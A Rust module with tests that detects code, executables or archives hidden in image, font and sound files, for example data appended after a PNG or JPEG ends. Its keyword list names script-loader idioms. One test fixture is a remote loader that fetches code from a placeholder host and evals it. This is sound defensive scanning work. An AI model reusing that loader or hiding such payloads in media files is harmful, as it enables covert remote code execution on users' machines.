//! Pictures, fonts and sounds that hold something else: code behind a picture's end, a program under a picture's name.
//!
//! Code was hidden in the icons of store extensions (GhostPoster, 2025): a loader reads the picture, looks for a mark behind its
//! end and decodes what follows. The look is made while a file is read, since its bytes are not kept.

/// What was found in a file that should hold something else.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hidden {
    /// `script`, `program`, `archive` or `data`.
    pub holds: &'static str,
    /// The beginning of it, as far as it is text.
    pub excerpt: String,
}

/// Endings of files that hold no code.
const MEDIA: &[&str] = &[
    "png", "jpg", "jpeg", "gif", "webp", "ico", "bmp", "avif", "woff", "woff2", "ttf", "otf", "eot", "mp3", "wav", "ogg",
    "mp4", "webm",
];

/// Bytes up to which a file is looked into; icons are far smaller.
pub const MAX_BYTES: usize = 4 << 20;

/// Bytes behind a picture's end that are not worth a word: padding, marks of editors.
const MIN_DATA: usize = 128;

/// Length from which a run of text may be code.
const MIN_TEXT: usize = 96;

/// Words of code; two different ones are wanted, since editors leave text of their own in pictures.
const CODE: &[&str] = &[
    "function",
    "=>",
    "eval(",
    "chrome.",
    "document.",
    "window.",
    "fetch(",
    "XMLHttpRequest",
    "atob(",
    "fromCharCode",
    "import(",
    "return ",
    "createElement",
];

/// Whether the name is one of a picture, font or sound.
pub fn is_media(path: &str) -> bool {
    let ending = path.rsplit('/').next().and_then(|name| name.rsplit_once('.')).map(|(_, ending)| ending.to_ascii_lowercase());
    ending.is_some_and(|ending| MEDIA.contains(&ending.as_str()))
}

/// Looks into a file with the name of a picture, font or sound.
pub fn look(path: &str, bytes: &[u8]) -> Option<Hidden> {
    if !is_media(path) || bytes.len() > MAX_BYTES {
        return None;
    }
    if let Some(holds) = other_format(bytes) {
        return Some(Hidden { holds, excerpt: String::new() });
    }
    if let Some(text) = code_in(bytes) {
        return Some(Hidden { holds: "script", excerpt: text.chars().take(160).collect() });
    }
    let behind = end_of_picture(bytes).and_then(|end| bytes.get(end..)).unwrap_or_default();
    let is_more = behind.len() >= MIN_DATA && behind.iter().any(|byte| *byte != 0) && !behind.starts_with(b"\xFF\xD8\xFF");
    is_more.then(|| {
        let text: String =
            behind.iter().take(80).take_while(|b| b.is_ascii_graphic() || **b == b' ').map(|b| char::from(*b)).collect();
        Hidden { holds: other_format(behind).unwrap_or("data"), excerpt: text }
    })
}

/// Formats that no picture begins with.
fn other_format(bytes: &[u8]) -> Option<&'static str> {
    let begins = |magic: &[u8]| bytes.starts_with(magic);
    if begins(b"MZ") && bytes.len() > 64 || begins(b"\x7fELF") || begins(b"\xCF\xFA\xED\xFE") || begins(b"\xCA\xFE\xBA\xBE") {
        Some("program")
    } else if begins(b"PK\x03\x04") || begins(b"Rar!\x1a") || begins(b"7z\xBC\xAF") || begins(b"Cr24") {
        Some("archive")
    } else {
        None
    }
}

/// A run of text that reads like code.
fn code_in(bytes: &[u8]) -> Option<&str> {
    let is_text = |byte: &u8| matches!(byte, b'\t' | b'\n' | b'\r' | 0x20..0x7f);
    bytes.split(|byte| !is_text(byte)).filter(|run| run.len() >= MIN_TEXT).find_map(|run| {
        let text = std::str::from_utf8(run).ok()?;
        let start = CODE.iter().filter_map(|word| text.find(word)).min()?;
        let words = CODE.iter().filter(|word| text.contains(*word)).count();
        // Descriptions of pictures (XMP) and colour profiles are XML.
        let is_xml = ["<?xpacket", "<x:xmpmeta", "<rdf:", "<?xml"].iter().any(|tag| text.contains(tag));
        (words >= 2 && !is_xml).then(|| text.get(start..)).flatten()
    })
}

/// Where a PNG or a JPEG ends by its own structure.
fn end_of_picture(bytes: &[u8]) -> Option<usize> {
    if bytes.starts_with(b"\x89PNG\r\n\x1a\n") { end_of_png(bytes) } else { end_of_jpeg(bytes) }
}

fn end_of_png(bytes: &[u8]) -> Option<usize> {
    let mut at = 8usize;
    loop {
        let length = u32::from_be_bytes(bytes.get(at..at.checked_add(4)?)?.try_into().ok()?);
        let kind = bytes.get(at.checked_add(4)?..at.checked_add(8)?)?;
        at = at.checked_add(12)?.checked_add(usize::try_from(length).ok()?)?;
        if kind == b"IEND" {
            return (at <= bytes.len()).then_some(at);
        }
    }
}

fn end_of_jpeg(bytes: &[u8]) -> Option<usize> {
    if !bytes.starts_with(b"\xFF\xD8") {
        return None;
    }
    // Segments up to the picture itself, so that the end of an embedded preview is not taken for the end.
    let mut at = 2usize;
    loop {
        let marker = *bytes.get(at.checked_add(1)?)?;
        if *bytes.get(at)? != 0xFF {
            return None;
        }
        if marker == 0xDA {
            break;
        }
        let length = u16::from_be_bytes(bytes.get(at.checked_add(2)?..at.checked_add(4)?)?.try_into().ok()?);
        at = at.checked_add(2)?.checked_add(usize::from(length))?;
    }
    let end = bytes.get(at..)?.windows(2).position(|pair| pair == [0xFF, 0xD9])?;
    at.checked_add(end)?.checked_add(2)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
pub(crate) mod tests {
    use proptest::prelude::*;

    use super::*;

    /// The smallest picture.
    pub(crate) fn png() -> Vec<u8> {
        let chunk =
            |kind: &[u8], data: &[u8]| [&u32::try_from(data.len()).unwrap().to_be_bytes()[..], kind, data, &[0; 4]].concat();
        [&b"\x89PNG\r\n\x1a\n"[..], &chunk(b"IHDR", &[0; 13]), &chunk(b"IDAT", &[1; 40]), &chunk(b"IEND", &[])].concat()
    }

    fn holds(path: &str, bytes: &[u8]) -> Option<&'static str> {
        look(path, bytes).map(|hidden| hidden.holds)
    }

    const SCRIPT: &[u8] = b"var x=1;/* a loader that is long enough to be told from a mark */ (function(){fetch('https://c.invalid').then(t=>eval(t))})()";

    #[test]
    fn code_and_data_in_pictures() {
        assert_eq!(holds("i.png", &png()), None);
        assert_eq!(holds("i.png", &[&png()[..], SCRIPT].concat()), Some("script"));
        assert_eq!(holds("i.png", &[&png()[..], &b"==="[..], &b"c2VjcmV0".repeat(40)].concat()), Some("data"));
        assert_eq!(holds("i.png", &[&png()[..], &[0; 500]].concat()), None);
        assert_eq!(holds("i.png", &[&png()[..], b"short"].concat()), None);
        assert_eq!(holds("i.jpg", SCRIPT), Some("script"));
        assert_eq!(holds("f.woff2", &[b"wOF2", SCRIPT].concat()), Some("script"));
        assert_eq!(holds("i.png", &[&b"MZ"[..], &[0; 200]].concat()), Some("program"));
        assert_eq!(holds("i.png", &[&png()[..], &b"PK\x03\x04"[..], &[1; 200]].concat()), Some("archive"));
        assert_eq!(holds("a.js", SCRIPT), None);
        assert!(look("i.png", &[&png()[..], SCRIPT].concat()).unwrap().excerpt.starts_with("function(){fetch"));
    }

    #[test]
    fn what_editors_leave_is_no_code() {
        let xmp =
            [&png()[..40], b"<x:xmpmeta xmlns:x='adobe:ns:meta/'> window. document. function ".repeat(8).as_slice()].concat();
        assert_eq!(holds("i.png", &xmp), None);
        let jpeg = [&b"\xFF\xD8\xFF\xE0\x00\x04ab\xFF\xDA\x00\x02"[..], &[7; 50], b"\xFF\xD9"].concat();
        assert_eq!(holds("i.jpg", &jpeg), None);
        assert_eq!(holds("i.jpg", &[&jpeg[..], &b"abcd".repeat(100)].concat()), Some("data"));
        // Cameras put more pictures behind the first.
        assert_eq!(holds("i.jpg", &[&jpeg[..], b"\xFF\xD8\xFF", &b"abcd".repeat(100)].concat()), None);
    }

    #[test]
    fn broken_pictures_end_nowhere() {
        for length in 0..png().len() {
            let _ = look("i.png", png().get(..length).unwrap());
        }
        assert_eq!(end_of_picture(b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIDAT"), None);
        assert_eq!(end_of_picture(b"\xFF\xD8\xFF"), None);
        assert_eq!(end_of_picture(b"\xFF\xD8\x00\x00\x00\x00"), None);
    }

    proptest! {
        #[test]
        fn any_bytes_are_looked_into(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
            let _ = look("i.png", &bytes);
            let _ = look("i.png", &[&b"\x89PNG\r\n\x1a\n"[..], &bytes].concat());
            let _ = look("i.jpg", &[&b"\xFF\xD8"[..], &bytes].concat());
        }
    }
}
